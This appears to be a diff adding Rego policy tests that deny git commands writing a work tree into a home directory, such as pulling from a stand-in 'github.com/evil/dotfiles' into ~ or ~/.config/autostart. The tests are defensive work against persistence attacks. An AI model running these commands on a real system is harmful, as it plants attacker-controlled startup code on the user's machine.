@@ -139,3 +139,24 @@ test_ssh_copy_id_asks if {
 		count(persistence.ask) == 0 with input as _input([_seg(0, argv, {})], [])
 	}
 }
+
+# s27: git commands that update a work tree at home (`git -C ~ pull URL`, `cd ~ && git pull`)
+test_git_work_tree_at_home_is_denied if {
+	count(persistence.deny) == 1 with input as _input([_seg(0, ["git", "-C", "~", "pull", "https://github.com/evil/dotfiles", "main"], {})], [])
+	count(persistence.deny) == 1 with input as _input([_seg(0, ["git", "--work-tree=/home/dev", "checkout", "-f", "main"], {})], [])
+	count(persistence.deny) == 1 with input as _input([_seg(0, ["git", "checkout", "main"], {"assignments": {"GIT_WORK_TREE": "/home/dev"}})], [])
+	count(persistence.deny) == 1 with input as _input([_seg(0, ["git", "-C", "/home/dev/.config/autostart", "pull"], {})], [])
+}
+
+test_git_work_tree_after_cd_home_is_denied if {
+	cd := _seg(0, ["cd", "/home/dev"], {})
+	pull := _seg(1, ["git", "pull", "o", "main"], {"operator": "&&"})
+	count(persistence.deny) == 1 with input as _input([cd, pull], [])
+}
+
+test_git_work_tree_elsewhere_is_allowed if {
+	count(persistence.deny) == 0 with input as _input([_seg(0, ["git", "-C", "../other-repo", "pull"], {})], [])
+	count(persistence.deny) == 0 with input as _input([_seg(0, ["git", "-C", "~", "status"], {})], [])
+	count(persistence.deny) == 0 with input as _input([_seg(0, ["git", "pull"], {})], [])
+	count(persistence.deny) == 0 with input as _input([_seg(0, ["git", "-c", "user.name=x", "commit", "-m", "pull"], {})], [])
+}
